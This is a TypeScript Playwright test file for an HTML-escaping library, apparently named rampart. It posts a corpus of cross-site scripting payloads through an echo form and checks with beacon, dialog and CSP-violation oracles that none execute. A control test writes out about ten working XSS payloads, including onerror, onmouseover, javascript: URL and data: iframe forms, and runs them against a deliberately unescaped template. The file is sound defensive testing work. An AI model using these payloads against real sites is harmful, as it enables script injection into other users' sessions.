  if (body.includes('\0')) findings.push('a raw NUL (the marker character) reached the body');
  return findings;
}

// ---------------------------------------------------------------------------------------------
// Driving the page
// ---------------------------------------------------------------------------------------------

declare global {
  interface Window {
    /** The beacon every payload calls (a Playwright binding: it reports to the test). */
    __xss?: (id: unknown) => void;
    /** Where the init script reports each CSP violation (a Playwright binding). */
    __cspViolationSeen?: (description: string) => void;
  }
}

/** Runs in every document before its own scripts (Playwright init scripts bypass CSP). */
function reportViolations(): void {
  window.addEventListener(
    'securitypolicyviolation',
    (event) => window.__cspViolationSeen?.(`${event.effectiveDirective} blocked ${event.blockedURI || 'inline'}: ${event.sample}`),
    true,
  );
}

/**
 * Runs in the page: fires every event on every element (open shadow trees included)
 * and the window, plus each `on…` attribute's own event, and focuses every element.
 * While it runs, clicks and submits that would navigate are cancelled, so the page
 * stays; handlers run all the same, and so does a `javascript:` link or form action
 * (it runs in this page, navigating nowhere).
 */
async function triggerEverything(): Promise<void> {
  const elementEvents = [
    'click', 'dblclick', 'auxclick', 'contextmenu', 'mousedown', 'mouseup', 'mouseover', 'mouseenter', 'mousemove', 'mouseout', 'mouseleave',
    'pointerdown', 'pointerup', 'pointerover', 'pointerenter', 'pointermove', 'focus', 'focusin', 'blur', 'focusout', 'input', 'change',
    'beforeinput', 'keydown', 'keypress', 'keyup', 'select', 'invalid', 'submit', 'reset', 'error', 'load', 'toggle', 'beforetoggle',
    'close', 'cancel', 'animationstart', 'animationend', 'transitionend', 'scroll', 'wheel', 'copy', 'cut', 'paste', 'drag', 'dragstart',
    'dragenter', 'dragover', 'drop', 'touchstart', 'start', 'begin', 'beginEvent', 'play', 'canplay', 'loadstart',
  ];
  const windowEvents = ['load', 'pageshow', 'hashchange', 'popstate', 'message', 'resize', 'scroll', 'focus', 'blur', 'error', 'online', 'storage'];
  const make = (type: string): Event => {
    if (/^(click|dblclick|auxclick|contextmenu|mouse)/.test(type)) return new MouseEvent(type, { bubbles: true, cancelable: true, view: window });
    if (type.startsWith('pointer')) return new PointerEvent(type, { bubbles: true, cancelable: true });
    if (type === 'focus' || type === 'blur' || type === 'focusin' || type === 'focusout') return new FocusEvent(type, { bubbles: type.startsWith('focus') && type !== 'focus' });
    if (type.startsWith('key')) return new KeyboardEvent(type, { bubbles: true, cancelable: true, key: 'a' });
    return new Event(type, { bubbles: true, cancelable: true });
  };
  /** True when the browser reads `url` as a `javascript:` URL (the WHATWG parser, which drops tabs, newlines and leading C0). */
  const runsScript = (url: string | null | undefined): boolean => {
    if (url === null || url === undefined) return false;
    try {
      return new URL(url, document.baseURI).protocol === 'javascript:';
    } catch {
      return false;
    }
  };
  const hrefOf = (link: Element): string | null => link.getAttribute('href') ?? link.getAttributeNS('http://www.w3.org/1999/xlink', 'href');
  const actionOf = (form: HTMLFormElement | null, submitter: Element | null): string | null | undefined =>
    submitter?.getAttribute('formaction') ?? form?.getAttribute('action');
  const stay = (event: Event): void => {
    const target = event.target instanceof Element ? event.target : null;
    if (event.type === 'submit') {
      if (runsScript(actionOf(target as HTMLFormElement | null, (event as SubmitEvent).submitter))) return;
    } else {
      const link = target?.closest('a, area');
      if (link && runsScript(hrefOf(link))) return;
      const button = target?.closest('button, input');
      if (button instanceof HTMLButtonElement || button instanceof HTMLInputElement) {
        if (runsScript(actionOf(button.form, button))) return;
      }
    }
    event.preventDefault();
  };
  const guarded = ['click', 'dblclick', 'auxclick', 'contextmenu', 'submit'];
  for (const type of guarded) window.addEventListener(type, stay, true);
  const elements: Element[] = [];
  const collect = (root: Document | ShadowRoot): void => {
    for (const element of root.querySelectorAll('*')) {
      elements.push(element);
      if (element.shadowRoot) collect(element.shadowRoot);
    }
  };
  collect(document);
  try {
    for (const type of windowEvents) window.dispatchEvent(make(type));
    for (const element of elements) {
      const own = [...element.attributes].filter((attribute) => attribute.name.startsWith('on')).map((attribute) => attribute.name.slice(2));
      // Never a securitypolicyviolation: the oracle listens for those.
      for (const type of new Set([...elementEvents, ...own].filter((name) => name !== 'securitypolicyviolation'))) {
        element.dispatchEvent(make(type));
      }
      if (element instanceof HTMLElement || element instanceof SVGElement) element.focus();
    }
    // Handlers queued by the events (and autofocus) run before this returns.
    await new Promise((resolve) => setTimeout(resolve, 0));
    await new Promise((resolve) => setTimeout(resolve, 0));
  } finally {
    for (const type of guarded) window.removeEventListener(type, stay, true);
  }
}

/**
 * Runs in the page: where a mouse click lands on `#link` (scrolled into view), and
 * whether `#link` is what is there; `null` when it holds rampart's inert URL.
 */
function locateLink(): { x: number; y: number; onTop: boolean; navigates: boolean } | null {
  const link = document.querySelector('#link');
  if (!link || link.getAttribute('href') === 'about:invalid#rampart') return null;
  link.scrollIntoView({ block: 'center', inline: 'center' });
  const box = link.getBoundingClientRect();
  const x = box.left + box.width / 2;
  const y = box.top + box.height / 2;
  // Whether a click takes the tab elsewhere (an http(s) URL other than this page, or one
  // that does not parse, which ends on about:blank#blocked), so the test waits for it.
  let navigates: boolean;
  try {
    const url = new URL(link.getAttribute('href') ?? '', location.href);
    const here = new URL(location.href);
    navigates = (url.protocol === 'http:' || url.protocol === 'https:') && url.origin + url.pathname + url.search !== here.origin + here.pathname + here.search;
  } catch {
    navigates = true;
  }
  return { x, y, onTop: document.elementFromPoint(x, y)?.closest('#link') === link, navigates };
}

/** Runs in the page: puts `text` into the echo form (a textarea keeps CR and LF, an input would drop them) and submits it. */
function submitEchoForm(text: string): void {
  const form = document.querySelector<HTMLFormElement>('form[action="/echo"]');
  const field = form?.querySelector('[name="message"]');
  if (!form || !field) throw new Error(`no echo form on ${location.href}`);
  if (!form.querySelector('input[name="csrf_token"]')) throw new Error(`the echo form of ${location.href} has no csrf_token field`);
  const area = document.createElement('textarea');
  area.name = 'message';
  area.value = text;
  field.replaceWith(area);
  form.requestSubmit();
}

/** What one of the oracles saw. */
interface Signal {
  readonly kind: 'beacon' | 'dialog' | 'csp violation';
  readonly detail: string;
}

/** One tab on one app, with every oracle attached, that posts payloads through the echo form. */
interface EchoTab {
  /** Everything the oracles saw since the tab opened. */
  readonly signals: readonly Signal[];
  /** Posts `text` through the echo form and checks the page that comes back; returns what went wrong. */
  check(text: string): Promise<string[]>;
  close(): Promise<void>;
}

/** How long a click on `#link` may show no effect (no navigation, no request) before the tab moves on. */
const QUIET_MS = 300;
/** How long a click that should navigate may take to start doing so. */
const NAVIGATION_MS = 10_000;

/**
 * Opens a tab on `target`'s home page. The tab loads the home page (`GET /`) and the
 * echo (`POST /echo`) from the app; every other request (a followed link, a
 * subresource) gets `204 No Content`, which leaves the page where it is. `rewrite`
 * (for the control) changes the body of every echo page before the browser sees it.
 */
async function openEchoTab(browser: Browser, target: Target, rewrite?: (body: string) => string): Promise<EchoTab> {
  const context: BrowserContext = await browser.newContext();
  context.setDefaultTimeout(10_000);
  const signals: Signal[] = [];
  await context.exposeBinding('__xss', (_source, id: unknown) => {
    signals.push({ kind: 'beacon', detail: String(id) });
  });
  await context.exposeBinding('__cspViolationSeen', (_source, description: unknown) => {
    signals.push({ kind: 'csp violation', detail: String(description) });
  });
  await context.addInitScript(reportViolations);
  /** While `#link` is followed, the app's own pages get a 204 too: the tab stays on the echo. */
  let following = false;
  const isAppPage = (url: URL): boolean => url.origin === target.url && (url.pathname === '/' || url.pathname === '/echo');
  // Only what is not the app's is intercepted (interception slows every request it holds).
  await context.route(
    (url) => following || !isAppPage(url),
    (route) => {
      const url = new URL(route.request().url());
      if (url.hostname === BEACON_HOST) signals.push({ kind: 'beacon', detail: `${url.pathname.slice(1)} (requested)` });
      return route.fulfill({ status: 204 });
    },
  );
  if (rewrite !== undefined) {
    await context.route(`${target.url}/echo`, async (route) => {
      if (following || route.request().method() !== 'POST') return route.fulfill({ status: 204 });
      const response = await route.fetch();
      return route.fulfill({ response, body: rewrite(await response.text()) });
    });
  }
  const page = await context.newPage();
  page.on('dialog', (dialog) => {
    signals.push({ kind: 'dialog', detail: `${dialog.type()} ${dialog.message()}` });
    void dialog.dismiss().catch(() => {});
  });

  const home = `${target.url}/`;
  async function goHome(): Promise<void> {
    const response = await page.goto(home);
    if (response?.status() !== 200) throw new Error(`GET / answered ${response?.status()}`);
  }

  async function submit(text: string): Promise<Response> {
    const isEchoAnswer = (response: Response): boolean => response.request().method() === 'POST' && new URL(response.url()).pathname === '/echo';
    const [response] = await Promise.all([page.waitForResponse(isEchoAnswer), page.waitForEvent('load'), page.evaluate(submitEchoForm, text)]);
    return response;
  }

  async function triggerInEveryFrame(): Promise<void> {
    for (const frame of page.frames()) {
      await frame.evaluate(triggerEverything).catch((error: unknown) => {
        if (frame === page.mainFrame()) throw error;
      });
    }
  }

  /**
   * Resolves once a click on `#link` has had its effect: the main frame navigated
   * (an unparseable URL ends on `about:blank#blocked`, a fragment stays), a
   * navigation request was answered (the 204), a `mailto:` or `tel:` URL was handed
   * out, or nothing happened for `QUIET_MS` (what a `javascript:` URL does).
   */
  function clickSettled(quietMs: number): Promise<void> {
    return new Promise((resolve) => {
      const onNavigated = (frame: Frame): void => {
        if (frame === page.mainFrame()) finish();
      };
      const onRequest = (request: BrowserRequest): void => {
        if (!/^https?:/.test(request.url())) finish();
      };
      const onAnswered = (request: BrowserRequest): void => {
        if (request.isNavigationRequest() && request.frame() === page.mainFrame()) finish();
      };
      const timer = setTimeout(() => finish(), quietMs);
      page.on('framenavigated', onNavigated);
      page.on('request', onRequest);
      page.on('requestfinished', onAnswered);
      page.on('requestfailed', onAnswered);
      function finish(): void {
        clearTimeout(timer);
        page.off('framenavigated', onNavigated);
        page.off('request', onRequest);
        page.off('requestfinished', onAnswered);
        page.off('requestfailed', onAnswered);
        resolve();
      }
    });
  }

  /**
   * Clicks `#link` with the mouse, as a person does: a `javascript:` URL would run in
   * this page. `about:invalid#rampart` is inert by definition and not followed. A tab
   * the link took away from the echo goes back to the home page, whose echo form the
   * next payload uses.
   */
  async function followLink(): Promise<string[]> {
    const point = await page.evaluate(locateLink);
    if (point === null) return [];
    if (!point.onTop) return ['#link is covered by another element'];
    following = true;
    try {
      // A navigation the click starts can take more than QUIET_MS on a busy machine: wait for it.
      const settled = clickSettled(point.navigates ? NAVIGATION_MS : QUIET_MS);
      await page.mouse.click(point.x, point.y);
      await settled;
    } finally {
      following = false;
    }
    if (page.url().startsWith(`${target.url}/echo`)) {
      // A javascript: URL runs in a task the click queued: done once two more tasks ran.
      const stayed = await page.evaluate(() => new Promise((resolve) => setTimeout(() => setTimeout(resolve, 0), 0))).then(
        () => true,
        // The page went away after all (a navigation later than expected): go home below.
        (error: unknown) => {
          if (!String(error).includes('Execution context was destroyed')) throw error;
          return false;
        },
      );
      if (stayed) return [];
    }
    await page.waitForLoadState('load');
    await goHome();
    return [];
  }

  await goHome();
  const baseline = await submit('rampart');
  if (baseline.status() !== 200) throw new Error(`POST /echo of a benign message answered ${baseline.status()}: ${await baseline.text()}`);
  const skeleton = (await page.evaluate(inspectEcho)).skeleton;

  return {
    signals,
    async check(text) {
      const start = signals.length;
      const findings: string[] = [];
      const response = await submit(text);
      if (response.status() !== 200) {
        findings.push(`POST /echo answered ${response.status()}`);
        await goHome();
        return findings;
      }
      findings.push(...markerFindings(await response.text(), response.headers()['content-security-policy']));
      findings.push(...viewFindings(await page.evaluate(inspectEcho), text, skeleton));
      await triggerInEveryFrame();
      findings.push(...(await followLink()));
      for (const signal of signals.slice(start)) findings.push(`${signal.kind}: ${signal.detail}`);
      return findings;
    },
    close: () => context.close(),
  };
}

/**
 * Posts every payload through one of `tabs` (each takes the next payload when done
 * with its last); returns `id [group] text: findings` for each payload with any.
 */
async function runCorpus(tabs: readonly EchoTab[], payloads: readonly Payload[]): Promise<string[]> {
  const failures: { id: number; line: string }[] = [];
  let next = 0;
  const work = async (tab: EchoTab): Promise<void> => {
    for (let payload = payloads[next++]; payload !== undefined; payload = payloads[next++]) {
      const findings = await tab.check(payload.text);
      if (findings.length > 0) failures.push({ id: payload.id, line: `${payload.id} [${payload.group}] ${JSON.stringify(payload.text)}: ${findings.join('; ')}` });
    }
  };
  await Promise.all(tabs.map(work));
  return failures.sort((a, b) => a.id - b.id).map((failure) => failure.line);
}

/** Opens `count` tabs on `target`, each in its own browser context (so with its own CSRF binding). */
async function openEchoTabs(count: number, target: Target): Promise<EchoTab[]> {
  const opened = await Promise.allSettled(Array.from({ length: count }, () => openEchoTab(chromium(), target)));
  const tabs = opened.flatMap((result) => (result.status === 'fulfilled' ? [result.value] : []));
  const failed = opened.find((result) => result.status === 'rejected');
  if (failed !== undefined) {
    await Promise.all(tabs.map((tab) => tab.close()));
    throw failed.reason;
  }
  return tabs;
}

// ---------------------------------------------------------------------------------------------
// The tests
// ---------------------------------------------------------------------------------------------

/** The app with its default CSP, and with the CSP turned off so that escaping alone is tested. */
const CSP_MODES = [
  ['with the default CSP', {}],
  ['with the CSP off (escaping alone)', { headers: { contentSecurityPolicy: false } }],
] as const satisfies readonly (readonly [string, RampartOptions])[];

/** Tabs posting payloads at once, each in its own browser context: one is checked while the other waits for its page. */
const TABS = 2;

let browser: Browser | undefined;
/** Why Chromium did not start: every test fails with it (a failing hook would only mark them skipped). */
let launchError: unknown;

beforeAll(async () => {
  browser = await launchChromium().catch((error: unknown) => {
    launchError = error;
    return undefined;
  });
});

afterAll(async () => {
  await browser?.close();
});

function chromium(): Browser {
  if (!browser) throw launchError instanceof Error ? launchError : new Error(`Chromium did not start: ${String(launchError)}`);
  return browser;
}

test('the corpus has several hundred distinct payloads from every class, and a sample of each for the other adapters', () => {
  expect(CORPUS.length).toBeGreaterThanOrEqual(400);
  expect(new Set(CORPUS.map((payload) => payload.text)).size).toBe(CORPUS.length);
  expect(Math.max(...CORPUS.map((payload) => asSubmitted(payload.text).length)), 'the echo accepts at most 1000 characters').toBeLessThanOrEqual(1000);
  expect(new Set(SAMPLE.map((payload) => payload.group)).size).toBe(GROUPS.length);
});

describe.each(CSP_MODES)('node adapter, in Chromium, %s', (_mode, options) => {
  let target: Target;

  beforeAll(async () => {
    target = await startTarget('node', testOptions(options));
  });

  afterAll(async () => {
    await target?.close();
  });

  test(`all ${CORPUS.length} payloads: nothing runs, nothing is injected, every slot says the payload back`, { timeout: 180_000 }, async () => {
    const tabs = await openEchoTabs(TABS, target);
    try {
      expect(await runCorpus(tabs, CORPUS)).toEqual([]);
      expect(tabs.flatMap((tab) => tab.signals), 'the oracles saw nothing, late reports included').toEqual([]);
    } finally {
      await Promise.all(tabs.map((tab) => tab.close()));
    }
  });

  test('control: the same oracles catch each payload a template without escaping lets through', async () => {
    const controls = [
      { id: 9001, text: '<img src=x onerror=__xss(9001)>', trigger: 'loading' },
      { id: 9002, text: '<b onmouseover=__xss(9002)>x</b>', trigger: 'mouseover' },
      { id: 9003, text: '<b tabindex=1 onfocus=__xss(9003)>x</b>', trigger: 'focus' },
      { id: 9004, text: '<b onclick=__xss(9004)>x</b>', trigger: 'click' },
      { id: 9005, text: 'javascript:__xss(9005)', trigger: 'following #link' },
      { id: 9006, text: '<svg onload=alert(9006)>', trigger: 'loading (a dialog)' },
      { id: 9007, text: '" onmouseover="__xss(9007)', trigger: 'mouseover on #again' },
      { id: 9008, text: '<details open ontoggle=__xss(9008)>', trigger: 'toggle' },
      { id: 9009, text: `<iframe src="data:text/html,<script>${remoteBeacon(9009)}</script>"></iframe>`, trigger: 'loading a data: frame (a request)' },
      { id: 9010, text: '<a href="javascript:__xss(9010)">x</a>', trigger: 'clicking every element' },
    ];
    // A naive template: the raw message in each slot, where rampart put its escaped form.
    const current: { text: string } = { text: '' };
    const unescaped = (body: string): string =>
      body
        .replace(/(<p id="message">)[\s\S]*?(<\/p>)/, (_all, open: string, close: string) => open + current.text + close)
        .replace(/(<input id="again" value=")[^"]*(")/, (_all, open: string, close: string) => open + current.text + close)
        .replace(/(<a id="link" href=")[^"]*(")/, (_all, open: string, close: string) => open + current.text + close);
    const tab = await openEchoTab(chromium(), target, unescaped);
    try {
      const missed: string[] = [];
      for (const control of controls) {
        current.text = control.text;
        const findings = await tab.check(control.text);
        const ran = findings.some((finding) => /^(beacon|dialog): (alert )?(\d+)/.exec(finding)?.[3] === String(control.id));
        const blocked = findings.some((finding) => finding.startsWith('csp violation'));
        const caught = 'headers' in options ? ran : blocked && !ran;
        if (!caught) missed.push(`${control.text} (${control.trigger}): ${findings.join('; ') || 'nothing seen'}`);
      }
      expect(missed).toEqual([]);
    } finally {
      await tab.close();
    }
  });
});

describe.each(ADAPTERS.filter((adapter) => adapter !== 'node'))('%s adapter, in Chromium', (adapter) => {
  test.each(CSP_MODES)(`a sample of ${SAMPLE.length} payloads, %s: nothing runs, nothing is injected`, { timeout: 60_000 }, async (_mode, options) => {
    const target = await startTarget(adapter, testOptions(options));
    const tabs = await openEchoTabs(TABS, target).catch(async (error: unknown) => {
      await target.close();
      throw error;
    });
    try {
      expect(await runCorpus(tabs, SAMPLE)).toEqual([]);
      expect(tabs.flatMap((tab) => tab.signals)).toEqual([]);
    } finally {
      await Promise.all(tabs.map((tab) => tab.close()));
      await target.close();
    }
  });
});
